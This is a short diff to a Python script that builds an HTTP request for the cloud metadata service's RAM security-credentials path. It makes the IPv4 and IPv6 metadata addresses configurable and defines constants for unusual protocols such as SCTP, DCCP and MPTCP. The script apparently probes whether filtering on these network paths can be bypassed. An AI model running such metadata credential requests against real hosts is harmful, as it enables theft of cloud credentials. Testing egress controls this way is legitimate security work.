@@ -3,8 +3,9 @@ import ctypes, errno, os, socket, struct, subprocess
 
 M = (os.environ.get("METADATA", "100.100.100.200"), 80)
 MAPPED = ("::ffff:" + M[0], M[1])
-M6 = ("fd00:100::100:200", 80)
-REQUEST = b"GET /latest/meta-data/ram/security-credentials/ HTTP/1.0\r\nHost: 100.100.100.200\r\n\r\n"
+M6 = (os.environ.get("METADATA6", "fd00:100::100:200"), 80)
+LIST = os.environ.get("LIST", "/latest/meta-data/ram/security-credentials/")
+REQUEST = f"GET {LIST} HTTP/1.0\r\nHost: {M[0]}\r\n\r\n".encode()
 MSG_FASTOPEN, TCP_FASTOPEN_CONNECT = 0x20000000, 30
 AF_SMC, IPPROTO_DCCP, IPPROTO_SCTP, IPPROTO_UDPLITE, IPPROTO_MPTCP = 43, 33, 132, 136, 262
 OPTIONAL = {IPPROTO_DCCP: "DCCP", IPPROTO_SCTP: "SCTP", IPPROTO_UDPLITE: "UDP-Lite", IPPROTO_MPTCP: "MPTCP"}
